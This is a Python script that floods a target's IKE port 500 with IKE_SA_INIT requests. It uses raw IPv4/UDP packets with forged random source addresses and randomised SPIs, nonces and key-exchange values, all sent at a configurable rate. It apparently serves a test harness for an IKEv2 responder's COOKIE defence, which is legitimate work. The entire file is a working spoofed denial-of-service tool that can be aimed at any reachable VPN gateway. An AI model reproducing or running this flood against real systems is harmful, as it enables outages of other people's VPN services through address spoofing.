#!/usr/bin/env python3
"""Spoofed IKE_SA_INIT flood for ike_flood.sh (stdlib only, root: raw socket).

  ike_flood.py DST PREFIX RATE SECONDS

Sends RATE IKE_SA_INIT requests per second for SECONDS to DST:500 from random source
addresses in PREFIX (e.g. 10.77.0.0/16), each with a random SPIi, KE value and nonce, as a
raw IPv4/UDP datagram with a forged source (IP_HDRINCL): an off-path attacker that never
sees the answers, so it can never return a COOKIE (RFC 7296 2.6). Proposal: AES-GCM-16-256,
PRF-HMAC-SHA256, Curve25519 (what ike_flood.sh configures). Prints "sent N", "seconds S",
"sources K" at the end.
"""
import ipaddress
import os
import random
import socket
import struct
import sys
import time


def transform(ttype, tid, last, attrs=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs


def ike_sa_init(spi_i, ke, nonce):
    # RFC 7296 3.3: one IKE proposal, 3 transforms (ENCR 20 + key length 256, PRF 5, KE 31).
    transforms = (transform(1, 20, False, struct.pack("!HH", 0x800E, 256)) +
                  transform(2, 5, False) + transform(4, 31, True))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    sa = struct.pack("!BBH", 34, 0, 4 + len(proposal)) + proposal             # next: KE
    kep = struct.pack("!BBHHH", 40, 0, 8 + len(ke), 31, 0) + ke                # next: Ni
    ni = struct.pack("!BBH", 0, 0, 4 + len(nonce)) + nonce
    body = sa + kep + ni
    hdr = struct.pack("!QQBBBBII", spi_i, 0, 33, 0x20, 34, 0x08, 0, 28 + len(body))
    return hdr + body


def main():
    if len(sys.argv) != 5:
        sys.exit(__doc__)
    dst = sys.argv[1]
    net = ipaddress.ip_network(sys.argv[2])
    rate, seconds = int(sys.argv[3]), float(sys.argv[4])
    base, size = int(net.network_address), net.num_addresses
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    dst_raw = socket.inet_aton(dst)
    rnd = random.Random(int.from_bytes(os.urandom(8), "big"))
    # A pool of distinct messages (random SPIi/KE/Ni), each sent with a new SPIi.
    pool = [ike_sa_init(0, rnd.randbytes(32), rnd.randbytes(32)) for _ in range(256)]
    sent, sources = 0, set()
    tick = 0.01
    per_tick = max(1, int(rate * tick))
    start = time.monotonic()
    next_tick = start
    while True:
        now = time.monotonic()
        if now - start >= seconds:
            break
        for _ in range(per_tick):
            src_int = base + rnd.randrange(1, size - 1)
            sources.add(src_int)
            ike = bytearray(pool[sent & 255])
            ike[0:8] = rnd.getrandbits(64).to_bytes(8, "big")
            udp = struct.pack("!HHHH", 500, 500, 8 + len(ike), 0) + ike   # checksum 0: none
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                             src_int.to_bytes(4, "big"), dst_raw)   # kernel fills ID, checksum
            try:
                s.sendto(ip + udp, (dst, 0))
                sent += 1
            except OSError:
                pass
        next_tick += tick
        delay = next_tick - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    print("sent", sent)
    print("seconds", round(time.monotonic() - start, 2))
    print("sources", len(sources))


if __name__ == "__main__":
    main()
